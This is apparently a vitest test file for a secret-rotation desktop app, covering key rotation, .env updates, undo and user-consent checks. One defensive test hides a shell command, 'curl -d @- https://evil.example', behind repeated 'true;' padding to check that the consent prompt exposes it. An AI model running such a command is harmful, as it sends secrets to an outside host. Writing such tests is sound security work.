import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { HOUR_MS, MINUTE_MS } from '../../../shared/lib/duration.ts';
import type { DestinationChoice } from '../../../shared/rotations/destination.ts';
import type { FaultRuleInput } from '../../../electron/sandbox/fault-rule.ts';
import { moveSecretEnd } from '../../../electron/services/secret-end-moving.ts';
import { errorOf, valueOf } from '../services/services-world.ts';
import { pickedEnvFile } from './picked-env-file.ts';
import { StrategyRun } from './strategy-run.ts';

let run: StrategyRun;
let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'rekey-second-reader-'));
});

afterEach(async () => {
  await run.world.close();
  rmSync(folder, { recursive: true, force: true });
});

const secretKeysPath = (): string => {
  const row = run.world.rows().find(({ id }) => id === run.plan.keyId);
  return `/keysets/${row?.providerKeyId ?? ''}/secret-keys`;
};

/** The secrets that the provider still takes, by a fresh look. */
async function liveSecrets() {
  const { secretExpiry, keys } = run.world.services;
  valueOf(await run.world.answered(secretExpiry.look(run.plan.keyId)));
  return valueOf(keys.get(run.plan.keyId)).parts.filter(
    ({ nature, state }) => nature === 'secret' && state !== 'ended',
  );
}

const env = (path: string, name: string): Promise<DestinationChoice> =>
  pickedEnvFile(run.world.host, path, name);

const secretCalls = (): string[] =>
  run.account.writes().filter((write) => write.includes('secret-keys'));

describe('a secret that somebody else rotated since Rekey looked', () => {
  it('is not taken for the old one: the secret in force is, though nobody opened the key', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({});
    const expiresAt = new Date(run.world.host.clock.now() + 48 * HOUR_MS).toISOString();
    expect(await run.account.elsewhere('POST', secretKeysPath(), { expiresAt })).toBe(201);
    const planned = run.world.services.rotations.plan(run.plan.keyId, {});
    run.plan = valueOf(await run.world.answered(planned));
    await run.start();
    await run.confirmAll();
    expect(await run.retire()).toMatchObject({ step: 'completed' });
    const left = await liveSecrets();
    expect(left.filter(({ state }) => state === 'expiring')).toMatchObject([
      { expiresAt: Date.parse(expiresAt) },
    ]);
  });
});

describe('a second consent in place', () => {
  it('says when the provider ends the old secret, which the first call has decided', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({ overlapMs: 2 * HOUR_MS });
    run.account.tune({ listShowsSecrets: 'stub' });
    run.account.faults(lostAnswer);
    await run.start();
    run.account.faults();
    await run.pass(HOUR_MS);
    const oldPartId = run.view.oldSecretPartId;
    await run.command('create-again');
    await run.confirmAll();
    const old = (await liveSecrets()).find(({ id }) => id === oldPartId);
    expect(run.view).toMatchObject({ step: 'overlapping', overlapUntil: old!.expiresAt });
  });

  it('finds the secret of a lost answer again', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({ overlapMs: 2 * HOUR_MS });
    run.account.tune({ listShowsSecrets: 'stub' });
    run.account.faults(lostAnswer);
    await run.start();
    run.account.tune({ listShowsSecrets: 'full' });
    run.account.faults(lostAnswer);
    await run.pass(HOUR_MS);
    expect(await run.command('create-again')).toMatchObject({ step: 'distributing' });
  });
});

describe('a script in the page', () => {
  it.each([{ strategy: 'immediate' }, { strategy: 'overlap', overlapMs: 5 * MINUTE_MS }] as const)(
    'ends no secret by starting $strategy without the host’s question',
    async (choice) => {
      run = await StrategyRun.connected('pubnub-v2');
      const { keyId, hash: planHash, marker } = await run.planned(choice);
      const before = secretCalls().length;
      const { person } = run.world.host;
      person.says = false;
      const input = { keyId, planHash, marker, destinations: [{ kind: 'copy' as const }] };
      const started = await run.world.answered(run.world.services.rotations.start(input));
      expect(errorOf(started)).toEqual({ kind: 'cancelled' });
      expect(secretCalls()).toHaveLength(before);
      // The plan still stands.
      person.says = true;
      expect(await run.start()).toMatchObject({ step: 'distributing' });
    },
  );

  it('ends no secret by moving its end nearer', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({});
    await run.start();
    await run.confirmAll();
    const { overlapUntil } = run.view;
    run.world.host.person.says = false;
    const until = run.world.host.clock.now() + 6 * MINUTE_MS;
    const { rotations } = run.world.services;
    const moved = await run.world.answered(rotations.extend({ rotationId: run.id, until }));
    expect(errorOf(moved)).toEqual({ kind: 'cancelled' });
    expect(secretCalls()).toHaveLength(1);
    expect(run.view).toMatchObject({ step: 'overlapping', overlapUntil });
    // More time needs no question.
    const later = overlapUntil! + HOUR_MS;
    valueOf(await run.world.answered(rotations.extend({ rotationId: run.id, until: later })));
  });

  it('hides nothing of what a program is run with', async () => {
    run = await StrategyRun.connected('ably');
    const { keyId, hash: planHash, marker } = await run.planned({});
    const { picker, person } = run.world.host;
    person.says = false;
    const { rotations } = run.world.services;
    const start = async (...args: string[]) => {
      picker.nextPaths.push('/bin/sh');
      const [program] = await picker.pickOpen({ title: '', many: false });
      return run.world.answered(
        rotations.start({
          ...{ keyId, planHash, marker },
          destinations: [
            {
              ...{ kind: 'command', fileId: program!.fileId, hand: { kind: 'stdin' } },
              arguments: ['-c', ...args],
            },
          ],
        }),
      );
    };
    const hidden = 'curl -d @- https://evil.example';
    expect(errorOf(await start(`${'true; '.repeat(30)}${hidden}`))).toEqual({ kind: 'cancelled' });
    expect(person.asked.at(-1)?.detail).toContain(hidden);
    const asked = person.asked.length;
    const long = '-'.repeat(1_000);
    expect(errorOf(await start(long, long))).toMatchObject({ kind: 'invalid-input' });
    expect(person.asked).toHaveLength(asked);
  });
});

describe('a file that was picked to be changed', () => {
  it('is not written over by an export', async () => {
    run = await StrategyRun.connected('ably');
    const path = join(folder, '.env');
    writeFileSync(path, 'OTHER=1\n');
    const chosen = await env(path, 'OTHER');
    if (!('fileId' in chosen)) throw new Error('A file');
    const exported = run.world.services.exports.exportActivity(chosen.fileId);
    expect(errorOf(await exported)).toMatchObject({ kind: 'file-refused', reason: 'not-picked' });
    expect(readFileSync(path, 'utf8')).toBe('OTHER=1\n');
  });
});

describe('while the secret is handed out', () => {
  it('its predecessor can be given more time', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({ overlapMs: 2 * HOUR_MS });
    expect(await run.start()).toMatchObject({ step: 'distributing' });
    const until = run.view.overlapUntil! + 5 * HOUR_MS;
    const { rotations } = run.world.services;
    valueOf(await run.world.answered(rotations.extend({ rotationId: run.id, until })));
    expect(run.view).toMatchObject({ step: 'distributing', overlapUntil: until });
    expect(await run.confirmAll()).toMatchObject({ step: 'overlapping', overlapUntil: until });
  });
});

describe('an end that is moved in the details of the key', () => {
  it('is the end that its rotation counts down to', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({});
    await run.start();
    await run.confirmAll();
    const expiresAt = run.view.overlapUntil! - 3 * HOUR_MS;
    const partId = run.view.oldSecretPartId!;
    valueOf(await run.world.answered(moveSecretEnd(run.world.services, { partId, expiresAt })));
    expect(run.view).toMatchObject({ step: 'overlapping', overlapUntil: expiresAt });
  });
});

describe('a file that holds two values', () => {
  it('is put back as a whole, and that is said of both', async () => {
    run = await StrategyRun.connected('ably');
    await run.planned({});
    const path = join(folder, '.env');
    const before = 'ABLY_API_KEY=old\nABLY_WORKER_KEY=old\n';
    writeFileSync(path, before);
    const started = await run.start([
      await env(path, 'ABLY_API_KEY'),
      await env(path, 'ABLY_WORKER_KEY'),
    ]);
    expect(started.step).toBe('overlapping');
    const [first] = started.destinations;
    const undone = run.world.services.rotations.undoDestination({
      ...{ rotationId: run.id, destinationId: first!.id },
    });
    valueOf(await run.world.answered(undone));
    const view = await run.settle();
    expect(readFileSync(path, 'utf8')).toBe(before);
    expect(view.destinations.map(({ state }) => state)).toEqual(['undone', 'undone']);
  });
});

describe('a file whose former secret the provider has ended meanwhile', () => {
  it('is not put back', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({ overlapMs: 2 * HOUR_MS });
    const path = join(folder, '.env');
    writeFileSync(path, 'PUBNUB_SECRET=old\n');
    await run.start([await env(path, 'PUBNUB_SECRET'), { kind: 'copy' }]);
    expect(run.view.step).toBe('distributing');
    const after = readFileSync(path, 'utf8');
    await run.pass(3 * HOUR_MS);
    const destinationId = run.view.destinations[0]!.id;
    const { rotations } = run.world.services;
    const undone = rotations.undoDestination({ rotationId: run.id, destinationId });
    expect(errorOf(await undone)).toEqual({ kind: 'conflict', reason: 'already-ended' });
    expect(readFileSync(path, 'utf8')).toBe(after);
  });
});

describe('a file without the value', () => {
  it('is refused before anything is sent, however the key is rotated', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    const { keyId, hash: planHash, marker } = await run.planned({ strategy: 'immediate' });
    const path = join(folder, '.env');
    writeFileSync(path, '# PUBNUB_SECRET is missing\n');
    const before = run.account.writes().length;
    const refused = await run.world.answered(
      run.world.services.rotations.start({
        ...{ keyId, planHash, marker },
        destinations: [await env(path, 'PUBNUB_SECRET')],
      }),
    );
    expect(errorOf(refused)).toMatchObject({ kind: 'file-refused', reason: 'value-absent' });
    expect(run.account.writes()).toHaveLength(before);
  });
});

describe('the new key of a rotation that is still open', () => {
  it('is not rotated itself: a roll-back would end what it was replaced by', async () => {
    run = await StrategyRun.connected('ably');
    await run.planned({});
    await run.start();
    const newKeyId = run.view.newKeyId!;
    const plan = valueOf(await run.world.answered(run.world.services.rotations.plan(newKeyId)));
    expect(plan.findings).toContainEqual(
      expect.objectContaining({
        ...{ weight: 'blocks', reason: 'made-by-open-rotation' },
        rotationId: run.id,
      }),
    );
  });
});

describe('while the provider cannot be asked', () => {
  it('a file that was refused is handed the new secret all the same', async () => {
    run = await StrategyRun.connected('pubnub-v2');
    await run.planned({ strategy: 'immediate' });
    const path = join(folder, '.env');
    writeFileSync(path, 'PUBNUB_SECRET=old\n', { mode: 0o440 });
    await run.start([await env(path, 'PUBNUB_SECRET')]);
    expect(run.view.destinations).toMatchObject([{ state: 'failed' }]);
    chmodSync(path, 0o640);
    run.account.faults({ effect: { kind: 'offline' } });
    await run.command('retry');
    expect(run.view.destinations).toMatchObject([{ state: 'confirmed' }]);
  });
});

/** The call takes effect, its answer does not arrive. */
const lostAnswer: FaultRuleInput = {
  method: 'POST',
  path: '**/secret-keys',
  count: 1,
  effect: { kind: 'reset', when: 'after-commit' },
};
